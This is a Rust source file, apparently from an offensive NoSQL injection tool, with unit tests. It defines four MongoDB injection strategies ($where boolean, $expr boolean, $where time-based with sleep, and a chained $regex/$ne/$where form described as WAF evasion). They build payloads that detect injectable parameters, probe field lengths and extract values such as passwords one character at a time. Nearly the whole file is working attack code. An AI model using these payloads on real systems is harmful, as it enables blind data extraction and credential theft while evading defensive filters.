//! The four injection strategies the extraction engine cycles through
//! per parameter: two boolean-based (`$where`, `$expr`) and one
//! time-based `$where`, plus a WAF-evading chained form. Each strategy
//! exposes payload builders for "is this injectable", "what's the
//! length" and "is character at index > v" — the three shapes the
//! scanner, length prober and character extractor all need.

use indexmap::IndexMap;

use crate::value::Value;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DetectionMode {
    Boolean,
    Time,
}

#[derive(Clone)]
pub struct StrategyContext {
    pub prefix: String,
    pub suffix: String,
    pub sleep_s: f64,
}

impl StrategyContext {
    fn wrap(&self, code: &str) -> String {
        format!("{}{}{}", self.prefix, code, self.suffix)
    }
}

pub struct Strategy {
    pub name: &'static str,
    pub kind: DetectionMode,
    pub test: fn(&str, &StrategyContext) -> Value,
    pub length: fn(&str, usize, &StrategyContext) -> Value,
    pub char_gt: fn(&str, usize, u32, &StrategyContext) -> Value,
    /// Only the chained strategy sets this: a contradiction payload the
    /// scanner must see evaluate false after the tautology evaluates
    /// true, replacing a pure-tautology test that can't distinguish a
    /// real injection from a target that always echoes success.
    pub confirm_false: Option<fn(&str, &StrategyContext) -> Value>,
}

fn where_obj(expr: String) -> Value {
    let mut map = IndexMap::new();
    map.insert("$where".to_string(), Value::Str(expr));
    Value::Object(map)
}

fn str_len_cp(field: &str) -> Value {
    let mut to_string = IndexMap::new();
    to_string.insert("$toString".to_string(), Value::Str(format!("${field}")));
    let mut len = IndexMap::new();
    len.insert("$strLenCP".to_string(), Value::Object(to_string));
    Value::Object(len)
}

fn str_cp_at(field: &str, index: usize) -> Value {
    let mut to_string = IndexMap::new();
    to_string.insert("$toString".to_string(), Value::Str(format!("${field}")));
    let mut args = IndexMap::new();
    args.insert("source".to_string(), Value::Object(to_string));
    args.insert("index".to_string(), Value::Num(index as f64));
    let mut at = IndexMap::new();
    at.insert("$strCPAt".to_string(), Value::Object(args));
    Value::Object(at)
}

fn expr_where(expr_pairs: Vec<(String, Value)>) -> Value {
    let mut inner = IndexMap::new();
    for (k, v) in expr_pairs {
        inner.insert(k, v);
    }
    let mut outer = IndexMap::new();
    outer.insert("$expr".to_string(), Value::Object(inner));
    Value::Object(outer)
}

fn chained(expr: String) -> Value {
    let mut map = IndexMap::new();
    map.insert("$regex".to_string(), Value::Str(".*".to_string()));
    map.insert("$ne".to_string(), Value::Str("__nosql_tomcat_no_match__".to_string()));
    map.insert("$where".to_string(), Value::Str(expr));
    Value::Object(map)
}

// --- Strategy 1: $where boolean -----------------------------------------

fn where_test(key: &str, ctx: &StrategyContext) -> Value {
    where_obj(ctx.wrap(&format!("this.{key} && this.{key}.toString().length > 0")))
}
fn where_length(key: &str, len: usize, ctx: &StrategyContext) -> Value {
    where_obj(ctx.wrap(&format!("this.{key}.toString().length >= {len}")))
}
fn where_char_gt(key: &str, index: usize, code: u32, ctx: &StrategyContext) -> Value {
    where_obj(ctx.wrap(&format!("this.{key}.toString().charCodeAt({index}) > {code}")))
}

// --- Strategy 2: $expr boolean -------------------------------------------

fn expr_test(key: &str, _ctx: &StrategyContext) -> Value {
    expr_where(vec![("$gt".to_string(), Value::Array(vec![str_len_cp(key), Value::Num(0.0)]))])
}
fn expr_length(key: &str, len: usize, _ctx: &StrategyContext) -> Value {
    expr_where(vec![(
        "$gte".to_string(),
        Value::Array(vec![str_len_cp(key), Value::Num(len as f64)]),
    )])
}
fn expr_char_gt(key: &str, index: usize, code: u32, _ctx: &StrategyContext) -> Value {
    expr_where(vec![(
        "$gt".to_string(),
        Value::Array(vec![str_cp_at(key, index), Value::Num(code as f64)]),
    )])
}

// --- Strategy 3: $where time-based ----------------------------------------

fn time_test(_key: &str, ctx: &StrategyContext) -> Value {
    where_obj(ctx.wrap(&format!("sleep({})", (ctx.sleep_s * 1000.0) as u64)))
}
fn time_length(key: &str, len: usize, ctx: &StrategyContext) -> Value {
    where_obj(ctx.wrap(&format!(
        "if (this.{key}.toString().length >= {len}) {{ sleep({}); }}",
        (ctx.sleep_s * 1000.0) as u64
    )))
}
fn time_char_gt(key: &str, index: usize, code: u32, ctx: &StrategyContext) -> Value {
    where_obj(ctx.wrap(&format!(
        "if (this.{key}.toString().charCodeAt({index}) > {code}) {{ sleep({}); }}",
        (ctx.sleep_s * 1000.0) as u64
    )))
}

// --- Strategy 4: chained $regex + $ne + $where (WAF evasion) --------------

fn chained_test(_key: &str, ctx: &StrategyContext) -> Value {
    chained(ctx.wrap("return true"))
}
fn chained_confirm_false(_key: &str, ctx: &StrategyContext) -> Value {
    chained(ctx.wrap("return false"))
}
fn chained_length(key: &str, len: usize, ctx: &StrategyContext) -> Value {
    chained(ctx.wrap(&format!("this.{key}.length >= {len}")))
}
fn chained_char_gt(key: &str, index: usize, code: u32, ctx: &StrategyContext) -> Value {
    chained(ctx.wrap(&format!("this.{key}.charCodeAt({index}) > {code}")))
}

pub fn strategies() -> Vec<Strategy> {
    vec![
        Strategy {
            name: "where_boolean",
            kind: DetectionMode::Boolean,
            test: where_test,
            length: where_length,
            char_gt: where_char_gt,
            confirm_false: None,
        },
        Strategy {
            name: "expr_boolean",
            kind: DetectionMode::Boolean,
            test: expr_test,
            length: expr_length,
            char_gt: expr_char_gt,
            confirm_false: None,
        },
        Strategy {
            name: "where_time",
            kind: DetectionMode::Time,
            test: time_test,
            length: time_length,
            char_gt: time_char_gt,
            confirm_false: None,
        },
        Strategy {
            name: "chained_regex_ne_where",
            kind: DetectionMode::Boolean,
            test: chained_test,
            length: chained_length,
            char_gt: chained_char_gt,
            confirm_false: Some(chained_confirm_false),
        },
    ]
}

/// `true` for the two strategies whose `$where` clause runs arbitrary
/// JS, needed by the custom-expression mode (§4.11) which only trusts
/// JS-capable strategies to evaluate an attacker-supplied expression.
pub fn supports_custom_expression(strategy: &Strategy) -> bool {
    matches!(strategy.name, "where_boolean" | "where_time")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ctx() -> StrategyContext {
        StrategyContext {
            prefix: String::new(),
            suffix: String::new(),
            sleep_s: 3.0,
        }
    }

    #[test]
    fn where_boolean_test_references_the_target_field() {
        let v = (strategies()[0].test)("password", &ctx());
        let text = serde_json::to_string(&v.to_json()).unwrap();
        assert!(text.contains("this.password"));
    }

    #[test]
    fn chained_strategy_has_a_contradiction_confirmation() {
        let s = &strategies()[3];
        assert!(s.confirm_false.is_some());
        let tautology = (s.test)("x", &ctx());
        let contradiction = (s.confirm_false.unwrap())("x", &ctx());
        assert_ne!(tautology, contradiction);
    }

    #[test]
    fn time_strategy_embeds_sleep_milliseconds() {
        let v = (strategies()[2].test)("x", &ctx());
        let text = serde_json::to_string(&v.to_json()).unwrap();
        assert!(text.contains("sleep(3000)"));
    }

    #[test]
    fn only_where_strategies_support_custom_expressions() {
        let all = strategies();
        assert!(supports_custom_expression(&all[0]));
        assert!(!supports_custom_expression(&all[1]));
        assert!(supports_custom_expression(&all[2]));
        assert!(!supports_custom_expression(&all[3]));
    }
}
